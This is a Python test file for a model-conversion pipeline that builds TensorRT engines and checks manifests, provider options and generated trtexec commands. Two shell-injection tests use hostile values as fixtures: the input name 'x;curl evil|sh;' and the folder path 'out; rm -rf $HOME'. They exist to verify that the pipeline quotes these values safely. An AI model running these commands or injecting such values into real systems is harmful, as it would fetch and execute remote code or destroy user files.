import shlex
from pathlib import Path

import msgspec
import pytest

from converters.errors import CompileFailed
from converters.pipeline.coral import command_for
from converters.planning.methods import METHODS
from converters.release.device_build import as_device_build, provider_options, trtexec_command
from converters.release.draft import Draft
from edge_runtime.contract.codec import decode, encode
from edge_runtime.contract.digest import digest_of
from edge_runtime.contract.ids import LayerName, ModelName, VariantId, Version
from edge_runtime.contract.release import (
    EngineRequirement,
    FileEntry,
    Licence,
    ModelFormat,
    ReleaseManifest,
    Source,
    TensorMap,
    VariantManifest,
    read_variant,
)
from edge_runtime.contract.target import Target
from edge_runtime.contract.tensor import AxisRange, Signature, TensorSpec

METHOD = {method.name: method for method in METHODS["tensorrt"]}


def draft(shape: list[int | str], axes: dict[str, AxisRange]) -> Draft:
    manifest = ReleaseManifest(
        kind="model", name=ModelName("m"), version=Version("1"), task="t", requires=[], licence=Licence(spdx="MIT"),
        source=Source(digest=digest_of(b""), format="onnx"), signature=Signature(inputs=[], outputs=[], axes=axes),
        tensors={"input": TensorSpec(dtype="float32", shape=shape)}, preprocess={}, postprocess={},
        variants=[VariantId("v")],
    )  # fmt: skip
    return Draft(manifest, {"input": "x:0"}, {}, AxisRange(min=1, max=8))


FREE = draft(["N", 3, 8, 8], {"N": AxisRange(min=1, max=8)})
FIXED = draft([1, 3, 8, 8], {})


def built(name: str, of: Draft = FREE) -> VariantManifest:
    method = METHOD[name]
    plain = VariantManifest(
        id=VariantId(f"jetson-{name}"), requires=[], io=TensorMap(inputs={}, outputs={}),
        target=Target(engine="tensorrt", provider=["cpu"], arch=["aarch64"], precision=method.precision),
        engine=EngineRequirement(
            version=method.engine_versions, format=ModelFormat(opset=13, ir=8, typing=method.typing)
        ),
        files=[FileEntry(role="build_input", layer=LayerName("model.onnx"), digest=digest_of(b""), size=1000)],
    )  # fmt: skip
    return as_device_build(plain, method, of, VariantId("ort-float32"))


def test_a_weak_file_is_built_with_flags_and_a_strong_one_without() -> None:
    weak, strong = built("weak"), built("strong")

    assert weak.build
    assert strong.build
    assert weak.build.flags == ["fp16", "int8"]
    assert strong.build.flags == []
    assert (weak.engine.version, strong.engine.version) == (">=8.5,<11", ">=10.0")
    assert weak.target.precision == "int8+float16"


def test_the_variant_says_where_it_runs_and_what_to_fall_back_to() -> None:
    manifest = built("weak-float16")

    assert manifest.target.accelerator == "nvidia-gpu"
    assert manifest.target.provider == ["native", "onnxruntime"]
    assert manifest.target.precision == "float16"
    assert manifest.fallback == "ort-float32"
    assert manifest.files[0].layer == "jetson-weak-float16.onnx"
    assert read_variant(encode(manifest)) == manifest


def test_a_plan_bounds_every_size_of_every_input() -> None:
    plan = built("weak").build

    assert plan
    assert plan.profiles == [{"x:0": {"min": [1, 3, 8, 8], "opt": [1, 3, 8, 8], "max": [8, 3, 8, 8]}}]
    assert plan.where == "device"
    assert "compute_capability" in plan.cache_key


def test_the_options_of_onnx_runtimes_provider_say_the_same_as_the_plan() -> None:
    plan = built("weak").build
    assert plan

    options = provider_options(plan)

    assert (options["trt_fp16_enable"], options["trt_int8_enable"]) == (True, True)
    assert options["trt_profile_max_shapes"] == "x:0:8x3x8x8"
    assert decode(encode(built("weak")), VariantManifest).engine.options == options


def test_the_command_builds_by_hand_what_the_plan_says() -> None:
    assert trtexec_command(built("weak")) == (
        "trtexec --onnx=jetson-weak.onnx --fp16 --int8 --minShapes=x:0:1x3x8x8 --optShapes=x:0:1x3x8x8 "
        "--maxShapes=x:0:8x3x8x8 --memPoolSize=workspace:256M --timingCacheFile=timing.cache "
        "--saveEngine=jetson-weak.plan"
    )
    assert "--stronglyTyped" in trtexec_command(built("strong"))
    # trtexec refuses shapes of a model whose sizes are all fixed.
    assert "Shapes" not in trtexec_command(built("strong", FIXED))


def test_the_name_of_an_input_is_no_command_of_the_shell() -> None:
    hostile = Draft(FREE.manifest, {"input": "x;curl evil|sh;"}, {}, AxisRange(min=1, max=8))

    words = shlex.split(trtexec_command(built("weak", hostile)))

    assert "--minShapes=x;curl evil|sh;:1x3x8x8" in words


def test_the_folder_of_a_release_is_one_word_of_the_shell() -> None:
    words = shlex.split(command_for(b"", Path("out; rm -rf $HOME")))

    assert words[0] == "cp"
    assert words[1].startswith("out; rm -rf $HOME/blobs/sha256/")


def test_an_axis_without_bounds_is_refused_with_the_remedy() -> None:
    with pytest.raises(CompileFailed, match="--shape x:0=SIZES"):
        built("weak", draft([1, "T"], {}))


def test_a_variant_that_needs_no_build_has_no_command() -> None:
    with pytest.raises(ValueError, match="needs no build"):
        trtexec_command(msgspec.structs.replace(built("weak"), build=None))
